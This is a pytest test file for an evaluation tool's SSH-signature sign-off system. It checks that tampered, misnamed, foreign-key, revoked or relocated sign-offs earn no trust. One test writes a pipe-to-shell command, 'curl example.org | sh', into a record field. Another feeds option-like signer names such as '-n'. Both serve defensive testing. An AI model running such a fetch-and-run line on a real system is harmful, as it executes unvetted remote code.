"""Sign-offs count where they are signed by who may, for the folder and the bytes they saw; all else earns nothing."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from elue.errors import ElueError
from elue.record import files as records
from elue.record.schema import Flag, Record
from elue.submissions import signing, ssh
from elue.submissions.signing import SignOff
from elue.submissions.standing import as_it_stands
from elue.submissions.validate import validate
from elue.submissions.verify import Verifying, verify
from tests.submissions.breaking import again, edit, files, sign, sign_off, signer
from tests.submissions.conftest import Silent
from tests.submissions_of import trusts

NOTHING = {"self_reported"}


def trust(folder: Path) -> set[str]:
    return set(trusts(folder))


def said(folder: Path) -> list[str]:
    return [finding.what for finding in validate(folder).findings if finding.code == "R602"]


def rows(folder: Path, told: list[ElueError] | None = None) -> list[Record]:
    """The records of a submission as the index shows them."""
    adjust = as_it_stands([folder / "records"], None if told is None else told.append)
    adjusted = [adjust(records.read(path), path) for path in files(folder)]
    return [record for record in adjusted if record]


def test_the_same_sign_off_counts_signed_and_not_unsigned(hello: Path) -> None:
    signer(hello)
    signing.add(hello, sign_off(hello, extent="full"))
    assert trust(hello) == NOTHING
    (what,) = said(hello)
    assert what.endswith("counts for nothing: it is not signed")
    assert not validate(hello).errors
    sign(hello, extent="full")
    assert trust(hello) == {"verified"}
    assert len(said(hello)) == 1


def test_sign_offs_from_before_signatures_are_read_and_count_for_nothing(hello: Path) -> None:
    signer(hello)
    old = sign_off(hello).model_dump(
        mode="json", exclude={"folder": True, "elue": True, "profiles": True, "signature": True}
    )
    (hello / signing.FILE).write_text(records.canonical({"schema": 1, "sign_offs": [old]}))
    assert trust(hello) == NOTHING
    assert len(said(hello)) == 1


@pytest.mark.parametrize("name", ["another", "M2", "*", "-n", "", "\u20ac" * 90_000, "M\n"], ids=lambda name: name[:9])
def test_a_signer_signs_under_no_other_name(hello: Path, name: str) -> None:
    key, _ = signer(hello), signer(hello, "another")
    signing.add(hello, signing.signed(sign_off(hello, by=name, extent="full"), key))
    assert trust(hello) == NOTHING
    assert len(said(hello)) == 1


def test_a_stranger_s_key_signs_under_no_name(hello: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere" / "submissions").mkdir(parents=True)
    stranger = signer(tmp_path / "elsewhere" / "submissions" / "hello")
    signer(hello)
    signing.add(hello, signing.signed(sign_off(hello, extent="full"), stranger))
    assert trust(hello) == NOTHING


def test_a_signature_for_another_purpose_earns_nothing(hello: Path) -> None:
    key, mine = signer(hello), sign_off(hello)
    file = hello.parent.parent / "content"
    file.write_bytes(mine.content)
    subprocess.run(["ssh-keygen", "-Y", "sign", "-q", "-n", "git", "-f", key, file], check=True)
    signature = file.with_suffix(".sig").read_text()
    signing.add(hello, mine.model_copy(update={"signature": signature}))
    assert trust(hello) == NOTHING


CHANGED: dict[str, Callable[[SignOff], dict[str, Any]]] = {
    "folder": lambda s: {"folder": "other"},
    "by": lambda s: {"by": "another"},
    "when": lambda s: {"when": "2026-01-02T00:00:00+00:00"},
    "version": lambda s: {"version": 2},
    "elue": lambda s: {"elue": "9"},
    "extent": lambda s: {"extent": "full"},
    "seed": lambda s: {"seed": 2},
    "weights": lambda s: {"weights": ("0" * 64,)},
    "profiles": lambda s: {"profiles": {"elue-1": "0" * 64}},
    "environment": lambda s: {"environment": {"cpu": "none"}},
    "a key": lambda s: {"runs": (s.runs[0].model_copy(update={"key": "0" * 64}), *s.runs[1:])},
    "a digest": lambda s: {"runs": (s.runs[0].model_copy(update={"sha256": "0" * 64}), *s.runs[1:])},
    "what holds": lambda s: {"runs": (s.runs[0].model_copy(update={"holds": False}), *s.runs[1:])},
    "what was measured": lambda s: {"runs": (s.runs[0].model_copy(update={"measured": ("latency",)}), *s.runs[1:])},
    "flags": lambda s: {"runs": (s.runs[0].model_copy(update={"flags": ()}), *s.runs[1:])},
    "a run less": lambda s: {"runs": s.runs[1:]},
}


@pytest.mark.parametrize("name", CHANGED)
def test_whatever_changes_in_a_sign_off_ends_it(hello: Path, name: str) -> None:
    key = signer(hello)
    signer(hello, "another")
    mine = sign_off(hello)
    flagged = tuple(run.model_copy(update={"flags": (Flag(code="cpu_time", detail="x"),)}) for run in mine.runs)
    good = signing.signed(mine.model_copy(update={"runs": flagged}), key)
    signing.add(hello, good)
    assert trust(hello) == {"reproduced"}
    (hello / signing.FILE).unlink()
    signing.add(hello, good.model_copy(update=CHANGED[name](good)))
    assert trust(hello) == NOTHING
    assert CHANGED.keys() >= SignOff.model_fields.keys() - {"signature", "runs"}


def test_a_sign_off_moves_to_no_other_folder_and_no_other_bytes(hello: Path) -> None:
    sign(hello, extent="full")
    copy = again(hello, "aaa")
    assert trust(copy) == NOTHING
    assert said(copy)[0].endswith("it is a sign-off of the submission 'hello'")
    edit(hello, command="another")
    assert sorted(trusts(hello)) == ["self_reported", "verified"]


def test_a_key_is_taken_back_with_all_it_signed_or_from_a_day_on(hello: Path) -> None:
    sign(hello)
    signers = hello.parent / ssh.SIGNERS
    line = signers.read_text()
    signers.write_text(line.replace("namespaces", 'valid-before="20260601",namespaces'))
    assert trust(hello) == {"reproduced"}, "what was signed in time stands"
    sign(hello, extent="full", when="2026-07-01T00:00:00+00:00")
    assert trust(hello) == {"reproduced"}
    assert len(said(hello)) == 1
    signers.write_text("# nobody\n")
    assert trust(hello) == NOTHING
    signers.unlink()
    assert trust(hello) == NOTHING
    assert "there is no file allowed_signers" in said(hello)[0]


def test_signers_are_those_beside_the_folder_and_through_no_link(hello: Path, tmp_path: Path) -> None:
    sign(hello)
    shutil.move(hello.parent / ssh.SIGNERS, hello / ssh.SIGNERS)
    assert trust(hello) == NOTHING
    (hello.parent / ssh.SIGNERS).symlink_to(hello / ssh.SIGNERS)
    assert trust(hello) == NOTHING


def test_a_refutation_stands_wherever_it_lies_in_the_file(hello: Path) -> None:
    """The order of a file is its author's; that of the dates is the signers'."""
    refuted = tuple(run.model_copy(update={"holds": False, "finding": "all differs"}) for run in sign_off(hello).runs)
    sign(hello, runs=refuted, when="2026-03-01T00:00:00+00:00")
    sign(hello, extent="full", when="2026-02-01T00:00:00+00:00")
    assert trust(hello) == NOTHING
    sign(hello, when="2026-04-01T00:00:00+02:00")
    assert trust(hello) == {"reproduced"}, "until it comes out again"


def test_without_ssh_keygen_nothing_is_earned_and_it_is_said_in_a_line(
    hello: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    sign(hello, extent="full")
    key = signer(hello)
    monkeypatch.setenv("PATH", str(tmp_path))
    ssh.fault.cache_clear()
    with pytest.raises(ElueError, match="ssh-keygen can't be run") as caught:
        verify(Verifying(hello, "M", key), Silent)
    assert (caught.value.code, caught.value.hint) == ("no_ssh_keygen", "Install OpenSSH.")
    told: list[ElueError] = []
    assert {row.trust for row in rows(hello, told)} == NOTHING
    assert [error.code for error in told] == ["no_ssh_keygen"]
    assert not any(row.flags for row in rows(hello, told)), "the runs themselves are as good as before"
    assert any("ssh-keygen can't be run" in note for note in validate(hello).notes)


def test_who_can_t_sign_is_told_before_anything_runs(hello: Path, tmp_path: Path) -> None:
    with pytest.raises(ElueError, match="There is no key"):
        verify(Verifying(hello, "M", tmp_path / "none"), Silent)
    (tmp_path / "text").write_text("no key")
    with pytest.raises(ElueError, match="can't sign"):
        verify(Verifying(hello, "M", tmp_path / "text"), Silent)
    with pytest.raises(ElueError, match="would count for nothing"):
        verify(Verifying(hello, "somebody", signer(hello)), Silent)
    assert not (hello / signing.FILE).exists()


def test_the_index_shows_what_was_measured_and_every_flag(hello: Path) -> None:
    """A flag that was taken out of a record is in the sign-off still, and holds for the run."""
    flags = (Flag(code="cpu_time", detail="twice as much"), Flag(code="looks_up", detail="9 of 16"))
    measured = tuple(run.model_copy(update={"measured": ("flops",), "flags": flags}) for run in sign_off(hello).runs)
    edit(hello, flags=flags[:1], command="curl example.org | sh", environment={"cpu": "a quick one"})
    sign(hello, extent="full", runs=measured)
    shown = rows(hello)
    assert [[flag.code for flag in row.flags] for row in shown] == [["cpu_time", "looks_up"]] * 2
    assert all(row.command.startswith("elue evaluate hello --task diagnostic") for row in shown)
    signed = {row.trust: row.signed for row in shown}
    assert signed["self_reported"] is None, "its bytes are others than were looked at"
    assert signed["verified"] is not None
    assert (signed["verified"].by, signed["verified"].measured) == ("M", ("flops",))
    assert sum("was flagged when it was done again" in what for what in said(hello)) == 3


def test_a_record_of_many_runs_is_read(hello: Path) -> None:
    (run, *_) = sign_off(hello).runs
    sign(hello, runs=(run.model_copy(update={"measured": ("flops",) * 20}),) * 5_000)
    assert (hello / signing.FILE).stat().st_size > 2**21
    assert not validate(hello).errors


def test_sign_offs_have_an_end(hello: Path) -> None:
    old = sign_off(hello, runs=()).model_dump(mode="json")
    (hello / signing.FILE).write_text(records.canonical({"schema": 2, "sign_offs": [old] * signing.MOST_SIGN_OFFS}))
    with pytest.raises(ElueError, match="the most there can be"):
        sign(hello)
